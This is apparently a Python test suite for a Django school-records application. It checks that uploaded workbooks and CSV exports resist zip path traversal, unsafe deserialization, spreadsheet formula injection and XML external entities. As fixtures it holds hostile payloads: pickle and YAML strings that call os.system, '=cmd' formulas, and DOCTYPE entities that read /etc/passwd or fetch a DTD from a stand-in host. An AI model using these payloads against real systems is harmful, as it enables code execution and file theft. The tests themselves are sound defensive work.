"""A2, A3, A9, A10 and A11: files made to be more than files. They are read, or refused in words, and that is all."""

import ast
import io
import re
import stat
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client

from headway.formats.sheets_out import write_csv, write_xlsx
from headway.formats.tables import read as read_table
from headway.records.models import Pupil, School, Upload, User
from headway.services.access import COMMAND_LINE, viewer_of
from headway.services.exports import export
from tests.school import NOW, make_upn
from tests.security.hostile import HEAD as SAID_HEAD
from tests.security.hostile import make_said_school
from tests.security.state import files, rows
from tests.web.html import read
from tests.web.primary import HEAD

SOURCE = Path(__file__).parents[2] / "src" / "headway"
SHEET = write_xlsx(["upn", "subject", "term", "grade"], [["x", "y", "z", "4b"]], sheet="marks")
SECRET = "root:x:0:0"


def send(client: Client, content: bytes, *, file: str) -> HttpResponse:
    """What comes of a file that is sent in, up to its plan."""
    answer: HttpResponse = client.post("/transfers", {"file": SimpleUploadedFile(file, content)}, follow=True)  # type: ignore[assignment]
    return answer


def workbook(extra: Sequence[tuple[zipfile.ZipInfo | str, bytes]] = (), *, replaced: Mapping[str, bytes] = {}) -> bytes:
    """A true workbook with parts of an attacker's added to it, or put in the place of its own."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(SHEET)) as whole, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in whole.namelist():
            made.writestr(name, replaced.get(name, whole.read(name)))
        for part, content in extra:
            made.writestr(part, content)
    return out.getvalue()


def symlink() -> zipfile.ZipInfo:
    link = zipfile.ZipInfo("xl/media/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return link


MEMBERS: Sequence[tuple[str, Sequence[tuple[zipfile.ZipInfo | str, bytes]]]] = [
    ("traversal", [("../../../../tmp/evil.py", b"evil")]),
    ("traversal inside", [("xl/../../evil.py", b"evil")]),
    ("backslashes", [("xl\\..\\..\\evil.py", b"evil")]),
    ("absolute", [("/etc/cron.d/evil", b"evil")]),
    ("a drive", [("C:/evil.py", b"evil")]),
    ("symbolic link", [(symlink(), b"/etc/passwd")]),
    ("duplicate", [("xl/Workbook.xml", b"<workbook/>")]),
    ("letter case", [("XL/WORKBOOK.XML", b"<workbook/>")]),
]


class TestA2AndA11:
    """Names of parts in an archive that lead out of it (Gibbon, CVE-2026-8209; Moodle, CVE-2022-35650)."""

    @pytest.mark.parametrize("extra", [each for _, each in MEMBERS], ids=[name for name, _ in MEMBERS])
    def test_A2_an_archive_that_leads_out_of_itself_is_refused_and_touches_no_file(
        self, head: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, extra: Sequence[tuple[str, bytes]]
    ) -> None:
        monkeypatch.chdir(tmp_path)
        before, kept = {n: r for n, r in rows().items() if "upload" not in n}, files(tmp_path.parent, SOURCE)

        answer = send(head, workbook(extra), file="marks.xlsx")

        words = read(answer).words
        assert answer.status_code == 200
        assert re.search(r"points outside the workbook|stands in the workbook more than once", words), words
        head.post(answer.request["PATH_INFO"], {"act": "discard"})
        assert {n: r for n, r in rows().items() if "upload" not in n} == before
        assert files(tmp_path.parent, SOURCE) == kept

    @pytest.mark.parametrize(
        "name",
        [
            "../../evil.csv",
            "/etc/evil.csv",
            "..\\..\\evil.csv",
            "C:\\Windows\\evil.csv",
            "a/../../evil.csv",
            "~/evil.csv",
        ],
    )
    def test_A11_the_name_of_a_file_is_no_path(
        self, head: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
    ) -> None:
        """The browser's own parser cuts a name down before us; a service is given it whole."""
        from headway.services.uploads import keep

        monkeypatch.chdir(tmp_path)
        kept = files(tmp_path.parent)
        send(head, b"upn,grade\nx,y\n", file=name)
        by = viewer_of(User.objects.get(email=HEAD))
        keep(b"upn,grade\nx,y\n", file=name, school=School.objects.get(), by=by, now=NOW)

        assert {upload.file for upload in Upload.objects.all()} == {"evil.csv"}
        assert files(tmp_path.parent) == kept

    def test_A11_files_are_kept_under_ids_that_cannot_be_guessed_and_in_no_folder(self, head: Client) -> None:
        for _ in range(3):
            send(head, b"upn,grade\nx,y\n", file="marks.csv")

        ids = [upload.uid for upload in Upload.objects.order_by("pk")]
        assert len(ids) == 3
        assert {each.version for each in ids} == {4}
        assert max(abs(ids[0].int - ids[1].int), abs(ids[1].int - ids[2].int)) > 2**64


class TestA3:
    """An order of columns, or how a file is read, that is code to whoever unpacks it (Gibbon, GHSA-6wfg-rr5q-wg74)."""

    PACKED = (
        "cos\nsystem\n(S'touch evil'\ntR.",
        "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu",
        'O:8:"stdClass":1:{s:4:"evil";i:1;}',
        "!!python/object/apply:os.system ['touch evil']",
        '{"py/object": "os.system"}',
        "__import__('os').system('touch evil')",
    )

    def test_A3_how_a_file_is_read_can_be_nothing_but_a_choice(
        self, head: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.chdir(tmp_path)
        plan = send(head, b"upn,subject,term,grade\nx,y,z,4b\n", file="assessments.csv").request["PATH_INFO"]
        before = {n: r for n, r in rows().items() if "upload" not in n}

        for packed in self.PACKED:
            for name in ("kind", "academic_year", "term", "seen", "act", "back", "columns", "order", "options"):
                for act in ("read", "apply", "leave_out", packed):
                    answer = head.post(plan, {"act": act, name: packed})
                    assert answer.status_code in (302, 400, 404, 409), (name, act)
            assert send(head, packed.encode(), file="assessments.csv").status_code == 200

        assert {n: r for n, r in rows().items() if "upload" not in n} == before
        assert list(tmp_path.iterdir()) == []

    def test_A3_nothing_in_the_house_unpacks_code(self) -> None:
        """No pickle, no marshal, no eval; YAML is read by a loader that makes text, lists and mappings alone."""
        found = [
            f"{file.relative_to(SOURCE)}: {said}"
            for file in SOURCE.rglob("*.py")
            for said in _unpacking(ast.parse(file.read_text("utf-8")))
        ]

        assert found == []

    @pytest.mark.parametrize("code", ["import pickle", "from marshal import loads", "eval(x)", "yaml.load(x)"])
    def test_A3_it_would_notice(self, code: str) -> None:
        assert list(_unpacking(ast.parse(code)))


def _unpacking(tree: ast.AST) -> Iterator[str]:
    modules = {"pickle", "marshal", "shelve", "dill", "jsonpickle", "cloudpickle"}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from ({alias.name for alias in node.names} & modules)
        elif isinstance(node, ast.ImportFrom):
            yield from ({node.module or ""} & modules)
        elif isinstance(node, ast.Call):
            said = ast.unparse(node.func)
            if said in ("eval", "exec", "compile", "__import__", "yaml.load", "yaml.unsafe_load", "yaml.full_load"):
                yield said


class TestA9:
    """A name that a spreadsheet runs (RosarioSIS, GHSA-f8hp-grmr-pp7j), through the whole way from file to file."""

    RUNS = (
        '=HYPERLINK("http://evil.example","here")',
        "=cmd|' /C calc'!A0",
        "+1+1+cmd",
        "@SUM(1+1)",
        "-2+3+cmd",
        "\uff1d1+1",
        "' =1+1",
    )
    KINDS = ("pupils", "staff", "classes", "groups", "assessments", "targets", "behaviour", "contacts")

    @pytest.mark.parametrize("text", RUNS)
    def test_A9_a_formula_in_a_name_stays_text_in_every_file_out(self, db: None, text: str) -> None:
        school = make_said_school(
            lambda what, most: (text + what)[:most] if what not in ("class", "reg_group") else "5A"
        )
        by = viewer_of(User.objects.get(email=SAID_HEAD))
        told = 0

        for kind in self.KINDS:
            sheet = export(kind, school=school, by=by, now=NOW)
            lines = write_csv(sheet.headers, sheet.rows)
            for row in read_table(lines, file="out.csv").rows:
                told += sum(str(cell).startswith(text[:4].strip()) for cell in row.cells.values())
            cells = re.findall(r'(?:^|[,;\t])"?([^,;\t\r\n]*)', lines.decode(), re.MULTILINE)
            running = [
                each for each in cells if re.match(r"[=+@\uff1d\t\r-]", each) and not re.fullmatch(r"[+-]?[\d.]+", each)
            ]
            assert running == [], (kind, running)
            with zipfile.ZipFile(io.BytesIO(write_xlsx(sheet.headers, sheet.rows, sheet=kind))) as book:
                parts = b"".join(book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/"))
            assert b"<f>" not in parts and b"<f " not in parts and b"hyperlink" not in parts, kind

        assert told > 10  # it was in them, as it was sent

    def test_A9_a_formula_in_a_refused_file_stays_text_in_the_list_of_refusals(self, head: Client) -> None:
        content = write_csv(["upn", "subject", "term", "grade"], [[each, each, each, each] for each in self.RUNS])
        plan = send(head, content, file="=cmd.csv").request["PATH_INFO"]

        lines = head.get(plan, {"refusals": "csv"}).content.decode()

        assert "HYPERLINK" in lines
        assert not re.search(r'(?:^|,)"?[=+@\uff1d-](?![\d.]+[,\r])', lines, re.MULTILINE), lines


class TestA10:
    """XML that reads files or fetches addresses (Moodle, CVE-2014-3542, GHSA-27j2-c838-c3qg)."""

    DECLARES = (
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>',
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    )

    @pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"])
    @pytest.mark.parametrize("declares", DECLARES)
    def test_A10_a_workbook_that_declares_entities_is_refused(self, head: Client, part: str, declares: str) -> None:
        content = workbook(replaced={part: f'<?xml version="1.0"?>{declares}<x>&e;&b;</x>'.encode()})

        answer = send(head, content, file="marks.xlsx")

        assert "declares a document type (DOCTYPE)" in read(answer).words
        assert SECRET not in answer.content.decode()

    @pytest.mark.parametrize("file", ["marks.svg", "marks.xml", "marks.csv", "marks.xlsx", "marks.ods", "marks.html"])
    @pytest.mark.parametrize("root", ["svg", "html", "office:document", "x"])
    def test_A10_xml_by_any_name_is_refused_by_what_it_is(self, head: Client, file: str, root: str) -> None:
        content = (
            f'<?xml version="1.0"?>{self.DECLARES[0]}<{root} xmlns="x">&e;<script>alert(1)</script></{root}>'.encode()
        )

        answer = send(head, content, file=file)

        words = read(answer).words
        assert answer.status_code in (200, 400)
        assert "Right would be" in words or "right" in words.casefold(), words
        assert SECRET not in answer.content.decode()
        assert not Pupil.objects.filter(upn=make_upn(99)).exists()

    def test_A10_a_subset_of_entities_never_reaches_what_is_kept(self, head: Client) -> None:
        send(head, workbook(replaced={"xl/workbook.xml": self.DECLARES[0].encode()}), file="pupils.xlsx")

        assert {upload.options.get("transfer") for upload in Upload.objects.all()} <= {None}
        assert COMMAND_LINE.name not in {upload.file for upload in Upload.objects.all()}
